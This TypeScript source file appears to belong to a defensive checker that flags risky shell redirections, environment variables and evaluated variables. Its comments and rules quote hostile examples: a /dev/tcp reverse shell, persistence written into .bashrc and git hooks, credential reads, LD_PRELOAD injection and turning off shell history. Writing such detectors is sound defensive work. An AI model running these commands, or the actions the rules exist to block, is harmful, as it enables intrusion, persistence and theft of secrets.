/**
 * What a command's redirections and environment do, whatever the command: `> /dev/sda` writes a
 * disk, `>> ~/.bashrc` persists, `< ~/.ssh/id_rsa` reads a key, `>& /dev/tcp/host/port` opens a
 * network connection; `LD_PRELOAD=…`, `BASH_ENV=…`, `PROMPT_COMMAND=…` and `BASH_FUNC_x%%=…` run
 * code the command line does not show, and a `PATH` that puts the workspace or /tmp first makes
 * every later command name a question.
 */
import type { Invocation, RuleContext } from '../invocation.js';
import { isCredentialPath, isProcEnviron, placeOf } from '../paths.js';
import type { ParsedScript, Word } from '../shell.js';
import { PLAIN_PROGRAM } from './code.js';
import { literalStdout } from './literal-text.js';
import { RULE_TABLE } from '../table/index.js';
import { GIT_EXEC_KEY, gitKeyPattern } from '../table/git-command.js';
import { installHookWrite } from './supply-chain.js';
import { noteWritten } from './written.js';
import { SHELLS } from './code.js';

const OUTPUT = /^(>|>>|>\||&>|&>>|>&|<>)$/;

export function checkRedirects(inv: Invocation, ctx: RuleContext): void {
  for (const r of inv.cmd.redirects) {
    const t = r.target;
    const v = t?.value;
    // A target only known when it runs is judged by where it may point (`> "$(cmd)/x"`, table/rows/writes.ts).
    if (t && v === null && OUTPUT.test(r.op)) RULE_TABLE.reportAny(inv, ctx, [t]);
    if (!t || v === null || v === undefined) continue;
    if (/^\/dev\/(tcp|udp)\//.test(v)) {
      // `bash -i >& /dev/tcp/host/port 0>&1`: an interactive shell whose input and output are the socket.
      if (SHELLS.has(inv.name) && (inv.args.some((w) => /^-[a-zA-Z]*i/.test(w.value ?? '')) || inv.args.length === 0))
        ctx.add(inv, {
          level: 'hardline',
          group: 'exfiltrate',
          rule: 'reverse_shell',
          reason: 'hands an interactive shell to a network connection (a reverse shell)',
          at: [inv.word, t],
        });
      ctx.add(inv, {
        group: 'exfiltrate',
        rule: 'dev_tcp',
        reason: 'opens a network connection through /dev/tcp (a reverse shell or an upload)',
        at: [t],
      });
      continue;
    }
    if (r.op === '>&' && /^\d+$/.test(v)) continue;
    if (OUTPUT.test(r.op)) {
      if (
        /^\/(dev|sys)\//.test(v) &&
        !/^\/dev\/(null|stdout|stderr|tty|fd\/\d+|zero)$/.test(v) &&
        !/^\/dev\/(sd|nvme|hd|vd|xvd|mmcblk|disk|dm-|md|mapper|loop|sr|nbd|zd)/.test(v)
      )
        ctx.add(inv, {
          group: 'system',
          rule: 'device_write',
          reason: 'writes to a device or kernel interface',
          at: [t],
        });
      // Judged as every write is: the sysrq trigger, kernel settings, startup files (table/rows/writes.ts).
      else RULE_TABLE.reportAny(inv, ctx, [t]);
      const text = literalStdout(inv.cmd);
      noteWritten(ctx, v, inv.cmd.cwd, text, r.op === '>>' || r.op === '&>>');
      installHookWrite(ctx, inv, t, text);
      // `printf 'rm -rf ~' >> ~/.bashrc`, `… > .git/hooks/pre-commit`: the next shell or commit runs it.
      if (text !== null && RUNS_LATER.test(v))
        ctx.script(inv, { ...t, value: text }, `${v} runs what this line writes into it`);
    } else if (r.op === '<' || r.op === '<&') {
      if (isProcEnviron(v))
        ctx.add(inv, {
          group: 'exfiltrate',
          rule: 'proc_environ',
          reason: 'reads the environment of a process',
          at: [t],
        });
      else if (isCredentialPath(v, inv.cmd.cwd))
        ctx.add(inv, { group: 'exfiltrate', rule: 'credential_read', reason: 'reads credentials', at: [t] });
    }
  }
}

/** Files a shell or git runs as shell code later: shell start-up files and git hooks. */
const RUNS_LATER = /(^|\/)(\.(bash|zsh)rc|\.(bash_|z)?profile|\.bash_login|\.zshenv|\.zlogin|\.git\/hooks\/[\w.-]+)$/;

/** Variables whose value is a shell command line (read like `sh -c`). */
const SCRIPT_VARS = new Set([
  'PROMPT_COMMAND',
  'PS0',
  'GIT_SSH_COMMAND',
  'GIT_PROXY_COMMAND',
  'PAGER',
  'MANPAGER',
  'SYSTEMD_PAGER',
  'SYSTEMD_EDITOR',
  'PSQL_PAGER',
  'PSQL_EDITOR',
  'KUBE_EDITOR',
  'EDITOR',
  'VISUAL',
  'SUDO_EDITOR',
  'BROWSER',
  'FZF_DEFAULT_COMMAND',
  'RSYNC_RSH',
  'GIT_PAGER',
  'GIT_EDITOR',
  'GIT_SEQUENCE_EDITOR',
  'GIT_EXTERNAL_DIFF',
]);

/** Builtins that split what they read at IFS (a prefix `IFS=…` only changes that). */
const READS_LINES = new Set(['read', 'mapfile', 'readarray']);

/** Node options that only tune memory, warnings, source maps or TLS defaults: none loads code or opens a port. */
const TUNING_NODE_OPTION =
  /^--(?:max-old-space-size|max-semi-space-size|stack-size|max-http-header-size|unhandled-rejections|dns-result-order|disable-warning|title)=[\w.,:-]+$|^--(?:enable-source-maps|no-warnings|no-deprecation|trace-warnings|trace-deprecation|throw-deprecation|pending-deprecation|trace-uncaught|openssl-legacy-provider|use-openssl-ca|use-bundled-ca|experimental-vm-modules|expose-gc|preserve-symlinks)$/;

/** Variables whose value is code (or a library) the shell, the loader or a tool runs. */
const CODE_VARS = new Set([
  ...SCRIPT_VARS,
  'LD_PRELOAD',
  'LD_AUDIT',
  'LD_LIBRARY_PATH',
  'DYLD_INSERT_LIBRARIES',
  'DYLD_LIBRARY_PATH',
  'GCONV_PATH',
  'BASH_ENV',
  'ENV',
  'PS4',
  'SHELLOPTS',
  'BASHOPTS',
  'IFS',
  'GIT_SSH',
  'GIT_ASKPASS',
  'GIT_CONFIG_GLOBAL',
  'GIT_CONFIG_SYSTEM',
  'GIT_CONFIG_PARAMETERS',
  'GIT_EXEC_PATH',
  'GIT_TEMPLATE_DIR',
  'CVS_RSH',
  'SUDO_ASKPASS',
  'SSH_ASKPASS',
  // Unless every option only tunes the runtime (TUNING_NODE_OPTION); `--require`, `--import`, `--loader`, `--inspect` run or expose code.
  'NODE_OPTIONS',
  'PYTHONSTARTUP',
  'PERL5OPT',
  'RUBYOPT',
  'LUA_INIT',
  'LESSOPEN',
  'LESSCLOSE',
  // Injected into every JVM the command starts (`-javaagent:…` runs code first).
  'JAVA_TOOL_OPTIONS',
  '_JAVA_OPTIONS',
  'JDK_JAVA_OPTIONS',
]);

/**
 * Search paths for code and configuration: pointing one outside the workspace makes the command
 * load modules, startup files or settings from there (`PYTHONPATH=/tmp/evil`, `ZDOTDIR=/tmp/x`).
 */
const PATH_VARS = new Set([
  'PYTHONPATH',
  'PYTHONHOME',
  'PYTHONUSERBASE',
  'NODE_PATH',
  'PERL5LIB',
  'PERLLIB',
  'RUBYLIB',
  'GEM_PATH',
  'CLASSPATH',
  'LUA_PATH',
  'LUA_CPATH',
  'ZDOTDIR',
  'HOME',
  'XDG_CONFIG_HOME',
  'XDG_CONFIG_DIRS',
  'KUBECONFIG',
]);

/** JVM option variables of build tools: code only when they load an agent or run a command on error. */
const JVM_OPTS = /^(MAVEN_OPTS|GRADLE_OPTS|JAVA_OPTS|SBT_OPTS|ANT_OPTS)$/;

/** `HISTFILE=/dev/null`, `HISTSIZE=0`: the shell stops keeping its history (the row history_off says the rest). */
function historyOff(name: string, value: string | null): boolean {
  if (name === 'HISTFILE') return value === null || value === '' || /^\/dev\//.test(value);
  return (name === 'HISTSIZE' || name === 'HISTFILESIZE') && (value === null || /^-?0*$/.test(value));
}

export function checkAssignments(inv: Invocation, ctx: RuleContext): void {
  for (const a of inv.env) {
    if (historyOff(a.name, a.value.value)) {
      ctx.add(inv, {
        group: 'destroy_files',
        rule: 'history_off',
        reason: `${a.name} set this way stops the shell keeping its history, so what runs next leaves no trace`,
        at: [a.value],
      });
      continue;
    }
    if (a.name.startsWith('BASH_FUNC_')) {
      ctx.add(inv, {
        group: 'indirection',
        rule: 'exported_function',
        reason: 'defines a shell function through the environment',
        at: [a.value],
      });
      if (a.value.value)
        ctx.script(inv, { ...a.value, value: a.value.value.replace(/^\(\)\s*/, '') }, 'an exported function');
      continue;
    }
    if (a.name === 'PATH') {
      // `.`, an empty entry (the current folder) or a world-writable folder first: planted programs win.
      const dirs = a.value.raw.replace(/^["']|["']$/g, '').split(':');
      if (dirs.some((d) => d === '' || d === '.' || d === './' || /^\/(tmp|var\/tmp|dev\/shm)(\/|$)/.test(d)))
        ctx.add(inv, {
          group: 'indirection',
          rule: 'path_hijack',
          reason: 'puts the current folder or /tmp in PATH: command names may run planted programs',
          at: [a.value],
        });
      continue;
    }
    if (PATH_VARS.has(a.name)) {
      const dirs = a.value.value === null ? [null] : a.value.value.split(':').filter(Boolean);
      const away = dirs.find((d) => placeOf(d, inv.cmd.cwd) !== 'workspace');
      if (
        away !== undefined &&
        !(a.name === 'HOME' && away === '~') &&
        !(a.name === 'KUBECONFIG' && /^~\/\.kube\//.test(away ?? ''))
      )
        ctx.add(inv, {
          group: 'indirection',
          rule: 'search_path',
          reason: `${a.name} makes the command load code or settings from ${away ?? 'a place only known at run time'}`,
          at: [a.value],
        });
      continue;
    }
    // `PS1='$(…)'`: prompts are expanded before each is shown, substitutions included.
    if (/^PS[123]$/.test(a.name) && /\$\(|`/.test(a.value.value ?? a.value.raw)) {
      ctx.add(inv, {
        group: 'indirection',
        rule: 'code_in_environment',
        reason: `${a.name} runs the command substitution in it each time the prompt is shown`,
        at: [a.value],
      });
      continue;
    }
    const gitKey = /^GIT_CONFIG_KEY_\d+$/.test(a.name) ? a.value.value : undefined;
    if (gitKey !== undefined) {
      if (gitKey === null || GIT_EXEC_KEY.test(gitKeyPattern(gitKey)) || GIT_EXEC_KEY.test(gitKey.toLowerCase()))
        ctx.add(inv, {
          group: 'indirection',
          rule: 'code_in_environment',
          reason: `git configuration from the environment (${gitKey ?? 'a key only known at run time'}) makes git run a program`,
          at: [a.value],
        });
      continue;
    }
    if (JVM_OPTS.test(a.name)) {
      if (a.value.value === null || /-javaagent|-agentpath|-agentlib|OnOutOfMemoryError|OnError/.test(a.value.value))
        ctx.add(inv, {
          group: 'indirection',
          rule: 'code_in_environment',
          reason: `${a.name} loads an agent into the JVM or runs a command`,
          at: [a.value],
        });
      continue;
    }
    // `NODE_OPTIONS=--max-old-space-size=4096 npm run build`: options that only tune the runtime.
    if (
      a.name === 'NODE_OPTIONS' &&
      a.value.value !== null &&
      a.value.value
        .split(/\s+/)
        .filter(Boolean)
        .every((o) => TUNING_NODE_OPTION.test(o))
    )
      continue;
    if (a.name === 'GOFLAGS') {
      if (a.value.value === null || /-toolexec|-exec|-overlay|-modfile/.test(a.value.value))
        ctx.add(inv, {
          group: 'indirection',
          rule: 'code_in_environment',
          reason: 'GOFLAGS makes go run another program',
          at: [a.value],
        });
      continue;
    }
    if (!CODE_VARS.has(a.name)) continue;
    // `while IFS= read -r line`: the separators read splits a line at, nothing more.
    if (a.name === 'IFS' && READS_LINES.has(inv.name)) continue;
    if (SCRIPT_VARS.has(a.name) && PLAIN_PROGRAM.test(a.value.value ?? '')) continue;
    ctx.add(inv, {
      group: 'indirection',
      rule: 'code_in_environment',
      reason: `${a.name} makes the command run code the command line does not show`,
      at: [a.value],
    });
    if (SCRIPT_VARS.has(a.name)) ctx.script(inv, a.value, `${a.name}`);
    // `LESSOPEN='| cmd %s'`: less runs the command after the pipe marks, the file name for `%s`.
    const filter = /^LESS(OPEN|CLOSE)$/.test(a.name) ? /^\s*\|{0,2}-?\s*([\s\S]*)$/.exec(a.value.value ?? '') : null;
    if (filter) ctx.script(inv, { ...a.value, value: filter[1]!.replace(/%s/g, 'file') }, `${a.name}`);
  }
}

/**
 * `a='x[$(cmd)]'; (( a ))`, `x='$(cmd)'; echo "${x@P}"`: the shell evaluates the variable's value
 * as code (an array index, a prompt string), so the command substitution in it runs.
 */
export function evaluatedVariables(parsed: ParsedScript, inv: Invocation, ctx: RuleContext): void {
  for (const e of parsed.evaluated ?? []) {
    const values = parsed.vars?.get(e.name);
    const at: Word = {
      value: e.name,
      raw: parsed.source.slice(e.start, e.end),
      start: e.start,
      end: e.end,
      glob: false,
    };
    // `n=$(curl -s …); echo $((n + 1))`: whoever serves the page writes `a[$(cmd)]` and it runs.
    if (e.how === 'arithmetic' && parsed.fetched?.has(e.name)) {
      ctx.add(inv, {
        group: 'indirection',
        rule: 'evaluated_variable',
        reason: `the shell evaluates ${e.name} as arithmetic and its value comes from the network: an index in it runs a command`,
        at: [at],
      });
      continue;
    }
    const code = (values ?? []).filter((v): v is string => v !== null && /\$\(|`/.test(v));
    if (e.how === 'prompt' && (!values || values.includes(null))) {
      ctx.add(inv, {
        group: 'indirection',
        rule: 'dynamic_script',
        reason: `\${${e.name}@P} runs the command substitutions of a value only known at run time`,
        at: [at],
      });
      continue;
    }
    for (const v of code.slice(0, 3)) {
      ctx.add(inv, {
        group: 'indirection',
        rule: 'evaluated_variable',
        reason: `the shell evaluates ${e.name} (${e.how === 'prompt' ? 'prompt expansion' : 'arithmetic'}), running the command in its value`,
        at: [at],
      });
      ctx.script(inv, { ...at, value: `: "${v.replace(/"/g, '\\"')}"` }, `the value of ${e.name}`);
    }
  }
}
